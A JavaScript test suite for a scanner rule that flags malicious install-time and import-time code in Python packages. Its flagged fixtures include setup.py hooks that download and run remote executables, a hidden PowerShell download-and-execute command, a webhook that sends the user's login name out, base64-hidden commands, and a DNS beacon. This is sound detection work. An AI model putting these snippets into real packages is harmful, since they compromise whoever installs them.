import { ruleTest } from '../../testing/rule-tester.js';
import rule from './py-install-time-code.js';

ruleTest(rule, {
  clean: [
    { name: 'resolving a host whose address is used (not at import)', file: 'net/__init__.py', code: `import socket\ndef resolve(h):\n    return socket.gethostbyname(h)\n` },
    {
      name: 'ordinary setuptools setup.py',
      file: 'setup.py',
      code: `import os, re\nfrom setuptools import setup, find_packages\nhere = os.path.abspath(os.path.dirname(__file__))\nabout = {}\nwith open(os.path.join(here, "requests", "__version__.py")) as f:\n    exec(f.read(), about)\nsetup(name=about["__title__"], version=about["__version__"], packages=find_packages())\n`,
    },
    {
      name: 'build_ext running cmake and git describe',
      file: 'setup.py',
      code: `import subprocess\nfrom setuptools.command.build_ext import build_ext\nclass CMakeBuild(build_ext):\n    def run(self):\n        subprocess.check_call(["cmake", "..", "-DTEMPLATE_DIR=x"])\n        subprocess.check_call(["make", "-j4"])\nversion = subprocess.check_output(["git", "describe"]).decode()\nsetup(cmdclass={"build_ext": CMakeBuild})\n`,
    },
    { name: 'Django manage.py is not an install hook', file: 'manage.py', code: `import os, sys\nif __name__ == "__main__":\n    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "site.settings")\n    from django.core.management import execute_from_command_line\n    execute_from_command_line(sys.argv)\n` },
    { name: '__init__ with functions only', file: 'pkg/__init__.py', code: `import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, shell=True)\n` },
    {
      name: 'setup.py running a plain-text build command held in a variable',
      file: 'setup.py',
      code: `import subprocess\nfrom setuptools import setup\nCMD = "git " + "describe --tags"\nsubprocess.check_output(CMD, shell=True)\nsetup(name="p")\n`,
    },
    {
      name: 'module that clones a repository only when a function is called',
      file: 'pkg/__init__.py',
      code: `import git\ndef mirror(url, path):\n    return git.Repo.clone_from(url, path)\n`,
    },
  ],
  flagged: [
    {
      name: '.pth line starting a background python -c one-liner (LiteLLM-style)',
      file: 'pkg_init.pth',
      code: `import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n`,
      findings: [{ line: 1, severity: 'critical', confidence: 'high', message: /background Python one-liner at every Python start/ }],
    },
    {
      name: 'cmdclass install override downloading',
      file: 'setup.py',
      code: `from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request, os\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        self.fetch()\n    def fetch(self):\n        urllib.request.urlretrieve("http://185.62.57.60/x.exe", os.path.expanduser("~/x.exe"))\n        os.startfile(os.path.expanduser("~/x.exe"))\nsetup(name="p", cmdclass={"install": PostInstall})\n`,
      findings: [
        { line: 9, message: /Network request at install time \(in PostInstall\.fetch/, severity: 'critical' },
        { line: 10, message: /Starts a command at install time/ },
      ],
    },
    {
      name: 'top-level os.system in setup.py',
      file: 'setup.py',
      code: `import os\nos.system("powershell -w hidden -c iwr http://x.example.net/a.ps1 | iex")\nsetup(name="p")\n`,
      findings: [{ line: 2, severity: 'critical', message: /Runs a network command at install time/ }],
    },
    {
      name: '__init__ import-time request',
      file: 'pkg/__init__.py',
      code: `import requests, os\nrequests.post("https://discord.com/api/webhooks/1/abc", data={"u": os.getlogin()})\n`,
      findings: [{ line: 2, severity: 'high', confidence: 'medium' }],
    },
    {
      name: '.pth startup exec',
      file: 'evil.pth',
      code: `import os; exec(os.environ.get("X") or __import__("base64").b64decode("cHJpbnQoMSk="))\n`,
      findings: [{ line: 1, message: /exec\(\) of computed code at every Python start/ }],
    },
    {
      name: 'hidden process at install time',
      file: 'setup.py',
      code: `import subprocess\nsubprocess.Popen(file, creationflags=0x08000000, shell=True)\nsetup(name="p")\n`,
      findings: [{ line: 2, severity: 'critical', message: /hidden or detached process at install time/ }],
    },
    {
      name: 'network command decoded through a multi-line helper',
      file: 'setup.py',
      code: `import base64, os\ndef b64d(code):\n    raw = code.encode("ascii")\n    out = base64.b64decode(raw)\n    return out.decode("ascii")\nos.system(b64d("${Buffer.from('curl -s -o x.bat https://cdn.example.net/x.bat').toString('base64')}"))\n`,
      findings: [{ line: 6, severity: 'critical', decoded: /^curl -s -o x\.bat/ }],
    },
    {
      name: 'temp script started detached with pythonw',
      file: 'setup.py',
      code: `from os import system as _ssystem\nfrom sys import executable as _eexecutable\n_ssystem(f"start {_eexecutable.replace('.exe', 'w.exe')} {_ttmp.name}")\n`,
      findings: [{ line: 3, severity: 'critical', message: /hidden or detached process at install time/ }],
    },
    {
      name: 'conftest.py phoning home',
      file: 'tests/conftest.py',
      code: `import urllib.request\nurllib.request.urlopen("https://c2.example-bad.net/p?x=1")\n`,
      findings: [{ line: 2, message: /when pytest collects the tests/ }],
    },
    {
      name: 'install override running a base64-hidden command',
      file: 'setup.py',
      code: `import base64, os\nfrom setuptools import setup\nfrom setuptools.command.install import install\ndef b64d(s):\n    return base64.b64decode(s.encode('ascii')).decode('ascii')\ndef go():\n    os.system(b64d("dHlwZSBudWwgPiBwcnVlYmEzMy50eHQ="))\nclass I(install):\n    def run(self):\n        install.run(self)\n        go()\nsetup(name="p", cmdclass={"install": I})\n`,
      findings: [{ line: 7, message: /Runs a command hidden by base64 at install time/, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'setup.py cloning a repository with GitPython and running it',
      file: 'setup.py',
      code: `import os, subprocess\nimport git\ndef fetch(url, path):\n    git.Repo.clone_from(url, path)\n    subprocess.run(['python', os.path.join(path, 'run.py')])\nfetch("https://github.com/someone/tool.git", os.path.expanduser("~/tool"))\nfrom setuptools import setup\nsetup(name="p")\n`,
      findings: [
        { line: 4, message: /Network request at install time/, severity: 'critical', confidence: 'high' },
      ],
    },
    {
      name: 'DNS beacon at import: a lookup whose answer is discarded',
      file: 'fb303_core/__init__.py',
      code: `import socket\ndef _check_dns():\n    try:\n        socket.gethostbyname('fb303_core.pyvac.collector-host.ai')\n    except socket.gaierror as e:\n        print(e)\n_check_dns()\n`,
      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /DNS beacon when the package is imported: looks up fb303_core\.pyvac\.collector-host\.ai/ }],
    },
    {
      name: 'setup.py leaves a Python one-liner running that imports a dependency',
      file: 'setup.py',
      code: `from setuptools import setup\nimport subprocess\ntry:\n\tp = subprocess.Popen(["python3", "-c", "from secrevtwo import dist_util"], close_fds=True)\nexcept:\n\tpass\nsetup(name="secbg", install_requires=["secrevtwo"])\n`,
      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /background Python one-liner at install time: from secrevtwo import dist_util/ }],
    },
    {
      name: 'an inline Python whose output setup.py reads stays a plain command (not a background one-liner)',
      file: 'setup.py',
      code: `import subprocess, sys\nfrom setuptools import setup\ninc = subprocess.Popen([sys.executable, "-c", "import numpy; print(numpy.get_include())"], stdout=subprocess.PIPE).communicate()[0]\nsetup(name="x")\n`,
      findings: [{ line: 3, severity: 'high', confidence: 'medium', message: /^Starts a command at install time$/ }],
    },
  ],
});
